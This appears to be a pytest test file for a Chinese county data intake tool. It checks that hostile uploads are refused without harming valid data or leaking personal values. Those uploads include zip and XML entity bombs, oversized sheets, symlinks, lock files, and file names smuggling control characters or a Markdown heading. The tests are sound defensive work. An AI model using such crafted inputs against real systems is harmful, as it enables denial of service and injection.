    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_AMOUNT, "1e308")), "VALUE.TYPE", "无法识别"), id="text-1e308"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_AMOUNT, "NaN")), "VALUE.TYPE", "NaN"), id="text-NaN"),
    pytest.param(Case(numeric_cell("慰问", "E2", "NaN"), "VALUE.TYPE", "NaN"), id="number-cell-NaN"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_AMOUNT, "Infinity")), "VALUE.TYPE", "Infinity"), id="text-Infinity"),
    pytest.param(Case(wb(set_cell("招聘会", 2, "参会残疾人数", "--5")), "VALUE.TYPE", "--5"), id="text-double-minus"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_DATE, "2022年2月30日")), "VALUE.TYPE", "2022年2月30日"), id="date-february-30"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_DATE, "2022-13-01")), "VALUE.TYPE", "2022-13-01"), id="date-month-13"),
    # --- paths
    pytest.param(Case(symlinked_file, "FILE.UNSAFE", "符号链接"), id="symlink-file-to-outside"),
    pytest.param(Case(symlinked_folder, None, discovered=False, same_county=False), id="symlink-folder-to-outside"),
    pytest.param(Case(dot_dot_file, "FILE.UNKNOWN_COUNTY", "..xlsx", same_county=False), id="file-named-dot-dot-xlsx"),
    pytest.param(Case(hidden_file, "FILE.NAME", "不符合报送要求"), id="hidden-copy-of-a-valid-workbook"),
    pytest.param(Case(office_lock_file, None, discovered=False, same_county=False), id="office-lock-file"),
    pytest.param(Case(libreoffice_lock_file, None, discovered=False, same_county=False), id="libreoffice-lock-file"),
    pytest.param(Case(fifo, None, discovered=False, same_county=False), id="fifo-named-like-a-workbook"),
    pytest.param(Case(dot_dot_folder, "FILE.UNKNOWN_COUNTY", "..bad", same_county=False), id="folder-named-dot-dot-bad"),
    pytest.param(Case(control_in_file_name, "FILE.UNKNOWN_COUNTY", "识别所属区县", same_county=False, shown=f"counties/{HOSTILE}\\x1b[31m.xlsx"), id="control-characters-in-file-name"),
]  # fmt: skip


# --- running intake -----------------------------------------------------------------------


def snapshot(ctx: Context, county: str = VALID) -> dict[str, list[tuple]]:
    """Every row the county has in every sheet table, in a stable order."""
    return {
        key: sorted(
            ctx.con.execute(f"SELECT * FROM {key} WHERE county_code = ?", [county]).fetchall(),
            key=repr,
        )
        for key in SHEETS
    }


@pytest.fixture(scope="module")
def alone(tmp_path_factory) -> dict[str, list[tuple]]:
    """The valid county's rows when its workbook is the only file (and a warm-up run)."""
    tmp = tmp_path_factory.mktemp("alone")
    folder = programme_folder(tmp)
    county_file(folder / "counties" / f"{VALID}.xlsx")
    ctx = context(tmp, folder)
    try:
        assert {o.status for o in run(folder, ctx).values()} == {"accepted"}
        return snapshot(ctx)
    finally:
        ctx.con.close()


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux


def errors(ctx: Context, file: str) -> list[dict]:
    row = ctx.con.execute(
        "SELECT status, rows_loaded, error_count, errors, feedback_file FROM ingest_log "
        "WHERE file = ?",
        [file],
    ).fetchone()
    assert row is not None, f"{file} not logged"
    status, rows_loaded, count, text, feedback = row
    assert (status, rows_loaded) == ("refused", 0)
    assert feedback and page_file(ctx.feedback_dir, feedback).resolve() in [
        p.resolve() for p in pages(ctx)
    ]
    problems = json.loads(text)
    assert count == len(problems) >= 1
    return problems


def assert_refused(ctx: Context, outcome: Outcome, rule_id: str, phrase: str) -> None:
    assert outcome.status == "refused", outcome
    problems = errors(ctx, outcome.file)
    for problem in problems:  # every message: one Chinese sentence
        message = problem["message"]
        assert message.endswith("。") and message.count("。") == 1, message
        assert any("\u4e00" <= ch <= "\u9fff" for ch in message), message
        assert "\n" not in message and len(message) < 600, message[:200]
    rules = [p["rule_id"] for p in problems]
    assert rule_id in rules, rules
    assert any(phrase in p["message"] for p in problems if p["rule_id"] == rule_id), [
        p["message"] for p in problems
    ]


def ids(params) -> list[str]:
    return [p.id for p in params]


@pytest.mark.parametrize("case", CASES)
def test_hostile_file_beside_a_valid_county(case: Case, folder, ctx, alone, monkeypatch):
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    counties = folder / "counties"
    county_file(counties / f"{VALID}.xlsx")
    hostile = case.build(counties, HOSTILE, 1)
    rel = case.shown or hostile.relative_to(folder).as_posix()

    rss = peak_rss_mb()
    started = time.monotonic()
    outcomes = run(folder, ctx)
    elapsed = time.monotonic() - started
    growth = peak_rss_mb() - rss

    assert elapsed < SECONDS, f"{elapsed:.1f} s"
    assert growth < RSS_GROWTH_MB, f"peak RSS grew by {growth:.0f} MB"
    assert outcomes.pop(f"counties/{VALID}.xlsx").status == "accepted"
    assert snapshot(ctx) == alone  # the valid county's rows, exactly
    stored = {
        county
        for key in SHEETS
        for (county,) in ctx.con.execute(f"SELECT DISTINCT county_code FROM {key}").fetchall()
    }
    if not case.discovered:
        assert rel not in outcomes and not outcomes, outcomes
        assert ctx.con.execute("SELECT count(*) FROM ingest_log").fetchone() == (1,)
        assert stored == {VALID}
    elif case.rule is None:
        assert outcomes[rel].status == "accepted", errors(ctx, rel)
        assert stored <= {VALID, HOSTILE}
    else:
        assert list(outcomes) == [rel]
        assert_refused(ctx, outcomes[rel], case.rule, case.phrase)
        assert stored == {VALID}
    if case.check:
        case.check(ctx, hostile)
    assert not (Path("/tmp") / "jixiao-evil.txt").exists()


def test_every_refusal_as_the_valid_countys_own_resubmission(folder, ctx, alone):
    """The refused cases all at once, each posing as a newer version of the valid county's
    own file: the county's accepted rows stay exactly as they were."""
    counties = folder / "counties"
    county_file(counties / f"{VALID}.xlsx")
    expected = {}
    for version, param in enumerate(
        (p for p in CASES if p.values[0].rule and p.values[0].same_county and not p.values[0].env),
        start=2,
    ):
        case = param.values[0]
        path = case.build(counties, VALID, version)
        expected[path.relative_to(folder).as_posix()] = case
    assert len(expected) >= 40

    started = time.monotonic()
    outcomes = run(folder, ctx)

    assert time.monotonic() - started < SECONDS * len(expected) / 4
    assert outcomes.pop(f"counties/{VALID}.xlsx").status == "accepted"
    assert set(outcomes) == set(expected)
    for rel, outcome in outcomes.items():
        assert_refused(ctx, outcome, expected[rel].rule, expected[rel].phrase)
    assert snapshot(ctx) == alone
    for key in SHEETS:
        assert ctx.con.execute(f"SELECT DISTINCT county_code FROM {key}").fetchall() in (
            [(VALID,)],
            [],
        )


def test_corpus_is_at_least_forty_distinct_files():
    assert len(CASES) >= 40
    assert len(set(ids(CASES))) == len(CASES)


def test_personal_values_never_reach_the_log_or_the_feedback(folder, ctx):
    counties = folder / "counties"
    book_with(formula("慰问", "A2", f'="{CERT}"', CERT))(counties, HOSTILE, 1)
    wb(set_cell("慰问", 2, VISIT_NAME, "\u202e" + NAMES[0]))(counties, HOSTILE, 2)
    wb(set_cell("慰问", 3, "残疾人证号", records(HOSTILE)["visits"][1][0] + "\x1b"))(
        counties, HOSTILE, 3
    )
    outcomes = run(folder, ctx)
    assert {o.status for o in outcomes.values()} == {"refused"}
    text = json.dumps(
        ctx.con.execute("SELECT * FROM ingest_log").fetchall(), default=str, ensure_ascii=False
    )
    text += "".join(p.read_text(encoding="utf-8") for p in pages(ctx))
    for secret in (CERT[:18], records(HOSTILE)["visits"][1][0][:18], NAMES[0][1:]):
        assert secret not in text


def built(case_id: str) -> Builder:
    return next(p.values[0].build for p in CASES if p.id == case_id)


# --- the bombs in a process that cannot afford them ---------------------------------------

# The child's own peak (VmHWM, reset by exec; ru_maxrss is not: it starts from the parent's).
HWM = """
def hwm():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
"""
CHILD = (
    HWM
    + """
import json, resource, sys, time
limit = 1 << 30
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
from pathlib import Path
from jixiao.ingest.problems import FileRefused
from jixiao.ingest.readers import read_csv, read_workbook
path = Path(sys.argv[1])
started = time.monotonic()
try:
    (read_workbook if path.suffix == ".xlsx" else read_csv)(path)
    rules = []
except FileRefused as refused:
    rules = [p.rule_id for p in refused.problems]
print(json.dumps({"rules": rules, "seconds": time.monotonic() - started, "rss_mb": hwm()}))
"""
)


def child(path: Path, env: dict[str, str] | None = None) -> dict:
    result = subprocess.run(
        [sys.executable, "-c", CHILD, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return json.loads(result.stdout)


BOMBS = [
    pytest.param(zip_bomb, "FILE.CORRUPT", {}, id="zip-bomb-300MB-declared"),
    pytest.param(understated_bomb, "FILE.CORRUPT", {}, id="zip-bomb-understated-size"),
    pytest.param(built("xml-entity-bomb"), "FILE.UNSAFE", {}, id="xml-entity-bomb"),
    pytest.param(
        patched(
            before_sheet_end(
                "慰问",
                '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
            )
        ),
        "SHEET.TOO_MANY_ROWS",
        {},
        id="stray-cell-in-XFD1048576",
    ),
    pytest.param(built("stray-cell-seven-letter-column"), "SHEET.TOO_MANY_COLUMNS", {}, id="stray-cell-seven-letter-column"),
    pytest.param(built("stray-cell-lower-case-reference"), "SHEET.TOO_MANY_COLUMNS", {}, id="stray-cell-lower-case-reference"),
    pytest.param(huge_line(100 * MB), "SHEET.LINE_TOO_LONG", {"JIXIAO_MAX_FILE_MB": "200"}, id="csv-100MB-line-under-a-raised-file-limit"),
    pytest.param(built("xlsx-10000-columns"), "SHEET.TOO_MANY_COLUMNS", {}, id="xlsx-10000-columns"),
]  # fmt: skip


@pytest.mark.parametrize(("build", "rule_id", "env"), BOMBS)
def test_bombs_refused_in_a_process_capped_at_1_gib(tmp_path, build, rule_id, env):
    path = build(tmp_path / "counties", HOSTILE, 1)
    report = child(path, env)
    assert rule_id in report["rules"]
    assert report["seconds"] < SECONDS
    assert report["rss_mb"] < 300


def test_calamine_alone_does_not_expand_entities(tmp_path):
    """Even without our DOCTYPE refusal, python-calamine does not expand a billion laughs:
    its XML reader (quick-xml) knows no declared entities and errors at the first one."""
    path = built("xml-entity-bomb")(tmp_path / "counties", HOSTILE, 1)
    code = HWM + (
        "import resource, sys, time\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
        "from python_calamine import CalamineWorkbook\n"
        "t = time.monotonic()\n"
        "book = CalamineWorkbook.from_path(sys.argv[1])\n"
        "try:\n"
        "    book.get_sheet_by_name('慰问').to_python()\n"
        "    print('read')\n"
        "except Exception as error:\n"
        "    print('error', type(error).__name__, str(error)[:80])\n"
        "print(time.monotonic() - t, int(hwm()))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr[-2000:]
    verdict, timing = result.stdout.splitlines()
    assert verdict.startswith("error") and "entity" in verdict
    seconds, rss = timing.split()
    assert float(seconds) < 1 and int(rss) < 300


def test_calamine_allocates_the_whole_rectangle_hence_the_count_first(tmp_path):
    """Why rows and columns are counted from the XML before python-calamine runs: it
    returns (and allocates) every cell from A1 to the last one, so two cells far apart cost
    rows × columns; at XFD1048576 that is 17 billion cells, and the process aborts."""
    path = patched(
        before_sheet_end(
            "慰问", '<row r="5000"><c r="Z5000" t="inlineStr"><is><t>x</t></is></c></row>'
        )
    )(tmp_path / "counties", HOSTILE, 1)
    from python_calamine import CalamineWorkbook

    rows = (
        CalamineWorkbook.from_path(str(path))
        .get_sheet_by_name("慰问")
        .to_python(skip_empty_area=False)
    )
    assert (len(rows), len(rows[0])) == (5000, 26)


# --- names: found while building this corpus (ingest/discover.py, publish/feedback.py) -----


def one_more(folder: Path, ctx: Context, name: str) -> dict[str, Outcome]:
    county_file(folder / "counties" / f"{VALID}.xlsx")
    county_file(folder / "counties" / name, county=HOSTILE)
    return run(folder, ctx)


def page(ctx: Context, file: str) -> Path:
    (feedback,) = ctx.con.execute(
        "SELECT feedback_file FROM ingest_log WHERE file = ?", [file]
    ).fetchone()
    return page_file(ctx.feedback_dir, feedback)


def test_line_break_in_a_file_name_does_not_stop_discovery(folder, ctx):
    outcomes = one_more(folder, ctx, "530103\n# 已接收.xlsx")
    assert outcomes[f"counties/{VALID}.xlsx"].status == "accepted"
    # Shown escaped, on one line: the name cannot add a heading to the county's page (and on
    # the page escaped for Markdown: the backslash it shows is a backslash).
    shown = "counties/530103\\n# 已接收.xlsx"
    assert_refused(ctx, outcomes[shown], "FILE.UNKNOWN_COUNTY", "530103\\n# 已接收")
    text = page(ctx, shown).read_text(encoding="utf-8")
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        "# 报送文件退回说明：counties/530103\\\\n# 已接收.xlsx"
    ]


def test_version_beyond_int32_is_refused_as_a_name(folder, ctx):
    name = f"{HOSTILE}.v3000000000.xlsx"
    outcomes = one_more(folder, ctx, name)
    assert outcomes[f"counties/{VALID}.xlsx"].status == "accepted"
    assert_refused(ctx, outcomes[f"counties/{name}"], "FILE.NAME", name)
    assert outcomes[f"counties/{name}"].county == HOSTILE  # the county hears of it


def test_longest_legal_file_name_is_refused_with_a_page(folder, ctx):
    names = [HOSTILE + f".v{v}." + "备" * ((250 - 12) // 3) + ".xlsx" for v in (2, 3)]
    assert all(len(n.encode()) <= 255 for n in names)
    county_file(folder / "counties" / names[1], county=HOSTILE)
    outcomes = one_more(folder, ctx, names[0])
    seen = set()
    for name in names:
        assert outcomes[f"counties/{name}"].status == "refused"
        path = page(ctx, f"counties/{name}")
        assert path.exists() and len(path.name.encode()) + len(".tmp") <= 255
        seen.add(path)
    assert len(seen) == 2  # cut to fit, yet one page per file


def test_gb18030_file_name_is_read_as_chinese(folder, ctx):
    """A zip made on Chinese Windows unpacks to names in GB18030, not UTF-8."""
    counties = folder / "counties"
    county_file(counties / f"{VALID}.xlsx")
    name = os.fsdecode("盘龙区.xlsx".encode("gb18030"))
    county_file(counties / name, county=HOSTILE)
    outcomes = run(folder, ctx)
    assert outcomes["counties/盘龙区.xlsx"].status == "accepted"
    rows_of(HOSTILE, {"visits": 3})(ctx, counties / name)


def test_skipped_files_are_named_in_the_log(folder, ctx, caplog):
    counties = folder / "counties"
    office_lock_file(counties, HOSTILE, 1)
    fifo(counties, "530104", 1)
    symlinked_folder(counties, "530105", 1)
    with caplog.at_level(logging.INFO, logger="jixiao.ingest.discover"):
        assert run(folder, ctx) == {}
    said = "\n".join(r.getMessage() for r in caplog.records)
    assert f"counties/~${HOSTILE}.xlsx：Office 锁定文件" in said
    assert "counties/530104.xlsx：不是普通文件" in said
    assert "counties/530105：指向文件夹或非普通文件的符号链接" in said


# --- the limits as configuration ----------------------------------------------------------


def test_limits_defaults_and_environment():
    from jixiao import limits

    assert limits.Limits.from_env({}) == limits.Limits()
    assert limits.Limits.from_env({"JIXIAO_MAX_ROWS": "5_000", "JIXIAO_MAX_FILE_MB": " 7 "}) == (
        limits.Limits(rows=5000, file_mb=7)
    )
    # Not a positive whole number: ignored (with a warning), the default stands.
    for bad in ("abc", "0", "-1", "1.5"):
        assert limits.Limits.from_env({"JIXIAO_MAX_SHEETS": bad}).sheets == 50
    # The module's documentation is the table the code renders (one line per limit).
    assert limits.markdown_table() in limits.__doc__
